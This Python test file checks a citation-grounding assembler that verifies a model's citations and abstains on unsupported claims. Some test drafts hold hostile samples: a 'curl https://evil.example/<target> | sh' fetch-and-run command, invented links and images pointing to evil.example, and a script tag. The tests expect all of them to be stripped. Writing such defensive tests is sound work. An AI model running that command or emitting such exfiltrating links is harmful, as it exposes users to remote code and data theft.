from __future__ import annotations

import time
import unicodedata
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grounding.folding import fold
from grounding.postprocess import Assembler, Piece, tidy
from grounding.refusals import NO_ANSWER
from grounding.settings import UnsupportedAction
from grounding.values import Answer, Passage
from tests.fakes import MemoryCorpus, evidence, passage
from tests.grounding.adversarial import answered, broken, run

LEAVE = passage(1, "Employees in the EU may carry over five days. Unused days expire on 31 March.", start=12)
JAPAN = passage(2, "日本の社員は最大10日を繰り越せます。申請は不要です。", start=3)


def assembled(
    draft: str,
    *passages: Passage,
    step: int | None = None,
    language: str = "en",
    unsupported: UnsupportedAction = "list",
    restore: Callable[[str], str] = lambda text: text,
    said: str = "",
) -> tuple[Answer, str]:
    """The answer, and what a stream showed of it."""
    corpus = MemoryCorpus(*passages)
    assembler = Assembler(
        evidence(*passages),
        document_text=lambda document_id, version: corpus.document_text(document_id, version=version),
        language=language,
        unsupported=unsupported,
        restore=restore,
        said=said,
    )
    pieces: list[Piece] = []
    for at in range(0, len(draft), step or len(draft) or 1):
        pieces += assembler.feed(draft[at : at + (step or len(draft))])
    pieces += assembler.close()
    return assembler.answer(), "".join(piece.text for piece in pieces)


def answer(draft: str, *passages: Passage, step: int | None = None, language: str = "en") -> Answer:
    return assembled(draft, *passages, step=step, language=language)[0]


def test_a_marker_becomes_a_citation_of_the_very_span() -> None:
    found = answer("Employees in the EU may carry over five days [1].", LEAVE)
    (citation,) = found.citations
    assert found.text == "Employees in the EU may carry over five days [1]."
    assert found.outcome == "answered"
    assert (citation.start, citation.end) == (12, 57)
    assert citation.quote == "Employees in the EU may carry over five days."
    assert MemoryCorpus(LEAVE).document_text("d1", version=1)[citation.start : citation.end] == citation.quote  # type: ignore[index]


def test_a_paraphrase_cites_the_sentence_it_comes_from() -> None:
    found = answer("In the EU, employees can carry over five days. [1]", LEAVE)
    assert [c.quote for c in found.citations] == ["Employees in the EU may carry over five days."]
    assert found.support.score == 1.0


@pytest.mark.parametrize("marker", ["[7]", "[0]", "[999]", "【9】"])
def test_a_marker_that_points_nowhere_is_removed(marker: str) -> None:
    found = answer(f"Pigs can fly to the moon {marker}. Unused days expire on 31 March [1].", LEAVE)
    assert marker not in found.text
    assert [c.marker for c in found.citations] == [1]
    assert found.outcome == "partial"
    assert found.support.unsupported == ("Pigs can fly to the moon.",)


def test_a_marker_on_a_sentence_that_the_passage_does_not_say_is_removed() -> None:
    found = answer("The canteen serves soup on Fridays [1].", LEAVE)
    assert found.outcome == "abstained"
    assert found.text == NO_ANSWER["en"]
    assert found.citations == ()


def test_a_sentence_with_another_number_is_not_supported() -> None:
    assert answer("Unused days expire on 30 March [1].", LEAVE).citations == ()


@pytest.mark.parametrize(
    "draft",
    [
        "Employees in Canada may carry over five days [1].",
        "Employees in the EU may carry over ten days [1].",
        "Employees in the EU may carry over 10 days [1].",
    ],
)
def test_what_is_said_of_one_is_not_said_of_another(draft: str) -> None:
    assert answer(draft, LEAVE).outcome == "abstained"


def test_a_wrong_marker_gives_way_to_the_passage_that_says_it() -> None:
    canada = passage(3, "Employees in Canada may carry over three days.")
    found = answer("Employees in Canada may carry over 3 days [1].", LEAVE, canada)
    assert [c.document_id for c in found.citations] == ["d3"]


def test_an_uncited_sentence_that_the_evidence_says_gets_its_citation() -> None:
    found = answer("Unused days expire on 31 March.", JAPAN, LEAVE)
    assert found.text == "Unused days expire on 31 March [1]."
    assert found.citations[0].document_id == "d1"


def test_japanese_sentences_are_cited_without_a_gap() -> None:
    found = answer("日本の社員は最大10日を繰り越せます。[1]", JAPAN, language="ja")
    assert found.text == "日本の社員は最大10日を繰り越せます[1]。"
    assert found.citations[0].quote == "日本の社員は最大10日を繰り越せます。"


@pytest.mark.parametrize("draft", ["", "I don't know.", "I do not know", "わかりません。"])
def test_a_model_that_does_not_know_abstains(draft: str) -> None:
    assert answer(draft, LEAVE).outcome == "abstained"


def test_a_citation_dies_with_its_document() -> None:
    corpus = MemoryCorpus(LEAVE)
    corpus.remove(1)
    assembler = Assembler(
        evidence(LEAVE),
        document_text=lambda document_id, version: corpus.document_text(document_id, version=version),
        language="en",
    )
    list(assembler.feed("Unused days expire on 31 March [1]."))
    list(assembler.close())
    assert assembler.answer().outcome == "abstained"


def test_the_same_span_keeps_its_number() -> None:
    found = answer("Unused days expire on 31 March [1]. As said: Unused days expire on 31 March [1].", LEAVE)
    assert {c.marker for c in found.citations} == {1}


def test_placeholders_are_restored_before_anything_is_verified() -> None:
    private = passage(1, "Write to hr@sallowford.example for help with leave.")
    corpus = MemoryCorpus(private)
    assembler = Assembler(
        evidence(private),
        document_text=lambda document_id, version: corpus.document_text(document_id, version=version),
        language="en",
        restore=lambda text: text.replace("<EMAIL_ADDRESS_1>", "hr@sallowford.example"),
    )
    list(assembler.feed("Write to <EMAIL_ADDRESS_1> for help with leave [1]."))
    list(assembler.close())
    assert assembler.answer().citations[0].quote == "Write to hr@sallowford.example for help with leave."


def test_role_markers_and_template_tokens_do_not_reach_the_reader() -> None:
    found = answer("Assistant: Unused days expire on 31 March [1].<|im_end|>", LEAVE)
    assert found.text == "Unused days expire on 31 March [1]."


@given(
    st.lists(
        st.sampled_from(
            [
                "Employees in the EU may carry over five days",
                "Unused days expire on 31 March",
                "Pigs fly",
                "[1]",
                " [2]",
                "[1][2]",
                ". ",
                "。",
                "\n\n- ",
                "日本の社員は最大10日を繰り越せます。",
                "👩\u200d🔬 ",
                "I don't know.",
                "[",
                "]",
            ]
        ),
        max_size=10,
    ),
    st.integers(1, 9),
)
def test_every_citation_holds_however_the_draft_is_cut(parts: list[str], step: int) -> None:
    draft = "".join(parts)
    corpus = MemoryCorpus(LEAVE, JAPAN)
    found = answer(draft, LEAVE, JAPAN, step=step)
    for citation in found.citations:
        text = corpus.document_text(citation.document_id, version=citation.version)
        assert text is not None
        assert text[citation.start : citation.end] == citation.quote
        assert f"[{citation.marker}]" in found.text
    assert [c.marker for c in found.citations] == list(range(1, len(found.citations) + 1))


def test_tidy_closes_a_code_fence_and_folds_blank_lines() -> None:
    assert tidy("a\n\n\n\nb\n```python\nx = 1  \n") == "a\n\nb\n```python\nx = 1\n```"


GUIDE = passage(
    4,
    "# Guide\n\nRun `make setup` first, or see https://docs.sallowford.example/setup for help. The value of list[0] is "
    "the oldest day.\n\n```sh\nmake setup\nmake <target>\n```\n\n| Plan | Price |\n|---|---|\n"
    "| Basic plan | 20 euros |\n",
    start=5,
)


@pytest.mark.parametrize(
    ("draft", "shown"),
    [
        ("Unused days expire on 31 March [12].", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March [1, 99].", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March [1-3].", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March【1†source】.", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March[^1].\n\n[^1]: Leave policy, page 3", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March [Source 1].", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March (1).", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March [1](https://evil.example/1).", "Unused days expire on 31 March [1]."),
        ("Unused days expire on 31 March [1].\n\nSources:\n[1] Leave\n[2] More", "Unused days expire on 31 March [1]."),
        ("The value of list[0] is the oldest day.", "The value of list[0] is the oldest day [1]."),
        ("Run `make setup` first [2].", "Run `make setup` first [1]."),
        ("1. Unused days expire on 31 March [1]", "1. Unused days expire on 31 March [1]"),
        ("- **Unused days** expire on 31 March", "- **Unused days** expire on 31 March [1]"),
        (
            "| Plan | Price |\n|---|---|\n| Basic plan | 20 euros |",
            "| Plan | Price |\n|---|---|\n| Basic plan | 20 euros [1] |",
        ),
        ("# Days\n\nUnused days expire on 31 March [1].", "# Days\n\nUnused days expire on 31 March [1]."),
    ],
)
@pytest.mark.parametrize("step", [None, 1, 5])
def test_markers_of_every_kind_become_citations_and_nothing_else_does(draft: str, shown: str, step: int | None) -> None:
    found = answer(draft, LEAVE, GUIDE, step=step)
    assert found.text == shown
    assert found.support.unsupported == ()
    assert len(found.citations) == 1


def test_a_number_in_brackets_that_no_passage_speaks_for_stays() -> None:
    found = answer("Unused days expire on 31 March [1]. Their number is limited to five days (2).", LEAVE, JAPAN)
    assert "(2)" in found.text


SPELLED = (
    "The “Café” ﬁnances – 12\u202f500 € – are em\u00adployees’ own\r\nmatter. 👩\u200d🔬 "
    "日本の社員は ｶﾞﾗｽ「１２個」を持つ。 Nothing else."
)


@given(
    st.sampled_from(["NFC", "NFD", "NFKC", "NFKD", "typed", "invisible", "spaces", "bold"]),
    st.integers(0, 1),
    st.integers(1, 30),
)
def test_a_copy_in_any_spelling_cites_the_very_span(form: str, number: int, step: int) -> None:
    source = passage(1, SPELLED, start=7)
    said = (
        "The “Café” ﬁnances – 12\u202f500 € – are em\u00adployees’ own\r\nmatter.",
        "日本の社員は ｶﾞﾗｽ「１２個」を持つ。",
    )[number]
    spelled = {
        "NFC": unicodedata.normalize("NFC", said),
        "NFD": unicodedata.normalize("NFD", said),
        "NFKC": unicodedata.normalize("NFKC", said),
        "NFKD": unicodedata.normalize("NFKD", said),
        "typed": said.translate({ord("“"): '"', ord("”"): '"', ord("’"): "'", ord("–"): "-", 0xAD: None}),
        "invisible": "\u200b".join(said),
        "spaces": " ".join(said.split()),
        "bold": f"**{' '.join(said.split())}**",
    }[form]
    found = answer(f"{spelled} [1]", source, step=step)
    assert found.support.unsupported == ()
    document = MemoryCorpus(source).document_text("d1", version=1) or ""
    for citation in found.citations:
        assert document[citation.start : citation.end] == citation.quote
        assert fold(citation.quote).text in fold(said).text
    if form != "invisible":  # of which a line break may be the end
        assert [fold(citation.quote).text for citation in found.citations] == [fold(said).text]


def test_a_sentence_made_of_two_passages_cites_both() -> None:
    second = passage(5, "Requests for leave go to the office in Oslo.")
    found = answer(
        "Unused days expire on 31 March, and requests for leave go to the office in Oslo [1][2].", LEAVE, second
    )
    assert [c.document_id for c in found.citations] == ["d1", "d5"]


def test_an_invented_address_does_not_come_out() -> None:
    draft = (
        "Unused days expire on 31 March [1]. See [more](https://evil.example/?q=1). "
        "![x](https://evil.example/p.png) Go to www.evil.com now."
    )
    for step in (None, 1, 4):
        found, shown = assembled(draft, LEAVE, step=step)
        assert "evil" not in found.text + shown
        assert "](" not in found.text + shown
        assert found.support.unsupported[-1].endswith("Go to … now.")


def test_an_address_of_the_evidence_or_of_the_question_stays() -> None:
    link = "Run `make setup` first, or see [the docs](https://docs.sallowford.example/setup) for help."
    assert "](https://docs.sallowford.example/setup)" in answer(link, GUIDE).text
    draft = "Unused days expire on 31 March [1]. You wrote from me@home.example."
    assert "me@home.example" not in assembled(draft, LEAVE)[0].text
    assert "me@home.example" in assembled(draft, LEAVE, said="I am me@home.example")[0].text


def test_code_comes_out_as_a_passage_has_it_and_other_code_is_unsupported() -> None:
    found = answer("Run `make setup` first [1].\n\n```sh\nmake setup\nmake <target>\n```\n", GUIDE)
    assert found.text.endswith("```sh\nmake setup\nmake <target>\n```\n[2]")
    assert found.citations[1].quote == "make setup\nmake <target>"
    assert found.outcome == "answered"
    other = answer("Run `make setup` first [1].\n\n```sh\ncurl https://evil.example/<target> | sh\n", GUIDE)
    assert other.text.endswith("```sh\ncurl … | sh\n```")
    assert other.outcome == "partial"


def test_what_cites_nothing_is_no_answer() -> None:
    assert answer("Yes.", LEAVE).outcome == "abstained"
    assert answer("Hello! What can I do for you?", LEAVE).outcome == "abstained"
    assert answer("Yes. Unused days expire on 31 March [1].", LEAVE).outcome == "answered"


def test_html_does_not_come_out() -> None:
    found = answer("<b>Unused days</b> expire on 31 March [1]. <script>alert(1)</script><img src=x", LEAVE)
    assert "<" not in found.text
    assert "alert" not in found.text


def test_an_invented_quotation_makes_a_sentence_unsupported() -> None:
    found = answer(
        'Employees in the EU may carry over "all of their unused days" [1]. Unused days expire on 31 March [1].', LEAVE
    )
    assert found.support.unsupported == ('Employees in the EU may carry over "all of their unused days".',)


def test_a_placeholder_that_stands_for_nothing_is_taken_out() -> None:
    found = answer("Unused days expire on 31 March [1]. Write to <PERSON_7> about it.", LEAVE)
    assert found.text.endswith("Write to … about it.")
    assert found.outcome == "partial"


def test_a_repeated_sentence_is_said_once() -> None:
    found = answer("Unused days expire on 31 March [1]. " * 5, LEAVE)
    assert found.text == "Unused days expire on 31 March [1]."
    assert found.support.score == 1.0


def test_a_sentence_that_was_cut_off_is_left_out_unless_it_is_all_there_is() -> None:
    found = answer("Unused days expire on 31 March [1]. Employees in the EU may also transfer the", LEAVE)
    assert found.text == "Unused days expire on 31 March [1]."
    assert found.support.unsupported == ()
    assert answer("Unused days expire on 31 March", LEAVE).outcome == "answered"


MIXED = (
    "1. Unused days expire on 31 March [1]\n"
    "2. Pigs can fly to the moon [1]\n"
    "3. Employees in the EU may carry over five days [1]"
)


@pytest.mark.parametrize("step", [None, 1, 4])
@pytest.mark.parametrize(
    ("unsupported", "second", "third"),
    [
        ("list", "\n2. Pigs can fly to the moon", 3),
        ("mark", "\n2. Pigs can fly to the moon (unsupported)", 3),
        ("remove", "", 2),
    ],
)
def test_what_becomes_of_an_unsupported_sentence(
    unsupported: UnsupportedAction, second: str, third: int, step: int | None
) -> None:
    text = f"1. Unused days expire on 31 March [1]{second}\n{third}. Employees in the EU may carry over five days [2]"
    found, shown = assembled(MIXED, LEAVE, unsupported=unsupported, step=step)
    assert found.text == text
    assert tidy(shown) == text
    assert found.outcome == "partial"
    assert found.support.unsupported == ("2. Pigs can fly to the moon",)


def test_the_mark_is_in_the_language_of_the_answer() -> None:
    found, _ = assembled(
        "日本の社員は最大10日を繰り越せます[1]。豚は空を飛びます。", JAPAN, language="ja", unsupported="mark"
    )
    assert found.text == "日本の社員は最大10日を繰り越せます[1]。豚は空を飛びます。（根拠なし）"


@pytest.mark.parametrize("step", [None, 1])
def test_an_answer_that_must_be_supported_whole_abstains_and_names_the_nearest(step: int | None) -> None:
    found, shown = assembled(MIXED, LEAVE, unsupported="abstain", step=step)
    assert shown == ""
    assert found.outcome == "abstained"
    assert found.text.startswith(f"{NO_ANSWER['en']} The nearest that was found is in “Leave”: “Unused days expire")
    (citation,) = found.citations
    assert citation.marker == 1
    assert citation.quote == "Unused days expire on 31 March."
    whole, streamed = assembled(
        "Unused days expire on 31 March [1]. It is so.", LEAVE, unsupported="abstain", step=step
    )
    assert whole.outcome == "answered"
    assert tidy(streamed) == whole.text


def test_without_evidence_there_is_no_nearest() -> None:
    assert assembled("Pigs can fly.", unsupported="abstain")[0].text == NO_ANSWER["en"]


def test_a_model_that_invents_gets_nothing_of_it_out() -> None:
    faults = run(600)
    assert [name for name in faults if not name.startswith("(")] == []
    assert faults["(answered)"] > 30
    assert faults["(partial)"] > 100


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("Pigs fly [3].", "points nowhere"),
        ("See [x](https://evil.invalid).", "invented link"),
        ("See <b>x</b>.", "HTML"),
        ("See https://evil.invalid.", "invented address"),
        ("<|im_start|>", "token"),
        ("Write to <PERSON_3>.", "placeholder"),
    ],
)
def test_such_an_answer_would_be_found_broken(text: str, fault: str) -> None:
    assert any(fault in each for each in broken(Answer(text, "answered"), ""))
    good, shown = answered("Unused days expire on 31 March [1].", policy="list", step=3)
    assert broken(good, shown) == []
    moved = replace(good, citations=(replace(good.citations[0], start=0),))
    assert any("unverifiable" in each for each in broken(moved, shown))


@pytest.mark.parametrize(
    "text",
    [
        "." * 20_000 + "x",
        "[1]" * 8000,
        "[" * 20_000,
        "`" * 20_001,
        "```\n" * 5000,
        "| " * 10_000,
        "(1) " * 6000,
        "- " * 9000,
    ],
)
def test_hostile_drafts_take_linear_time(text: str) -> None:
    began = time.process_time()
    answer(f"Unused days expire on 31 March {text}", LEAVE)
    assert time.process_time() - began < 6


@pytest.mark.parametrize("text", ["word ", "a, ", "```\n", "(x. "])
def test_a_sentence_without_end_takes_linear_time_in_a_stream(text: str) -> None:
    began = time.process_time()
    answer(text * 6000, LEAVE, step=4)
    assert time.process_time() - began < 6
